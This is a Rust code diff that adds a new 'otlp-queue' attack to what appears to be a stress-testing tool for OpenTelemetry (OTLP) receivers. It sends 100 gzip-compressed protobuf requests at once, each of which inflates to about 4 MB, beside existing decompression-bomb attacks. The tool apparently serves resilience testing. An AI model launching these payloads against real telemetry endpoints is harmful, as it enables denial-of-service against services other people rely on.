@@ -15,6 +15,8 @@ pub(crate) const ABANDONED: Attack = Attack::new("otlp-abandoned", abandon);
 
 pub(crate) const ATTRIBUTES: Attack = Attack::new("otlp-attributes", attributes);
 
+pub(crate) const QUEUE: Attack = Attack::new("otlp-queue", queue);
+
 const METRICS: usize = 8_000_000;
 /// Of a request that is just not too large.
 const POINTS: usize = 32_000;
@@ -22,6 +24,7 @@ const POINTS: usize = 32_000;
 const LABELS: usize = 30_000;
 const LABEL_SENDERS: usize = 20;
 const SENDERS: usize = 4;
+const QUEUED: usize = 100;
 
 fn act(target: &Target) -> anyhow::Result<()> {
     let metrics = message(1, &message(2, &[0x12, 0x00].repeat(METRICS)));
@@ -57,6 +60,14 @@ fn attributes(target: &Target) -> anyhow::Result<()> {
         bombs.push((headers, gzip(&bomb)?));
     }
     send(target, LABEL_SENDERS, &bombs);
+    Ok(())
+}
+
+/// Many requests at once, each as large as may be once it is decompressed.
+fn queue(target: &Target) -> anyhow::Result<()> {
+    let large = message(1, &message(2, &message(6, &vec![0; 4_000_000])));
+    let headers = "content-type: application/x-protobuf\r\ncontent-encoding: gzip\r\n".to_owned();
+    send(target, QUEUED, &[(headers, gzip(&large)?)]);
     Ok(())
 }
 
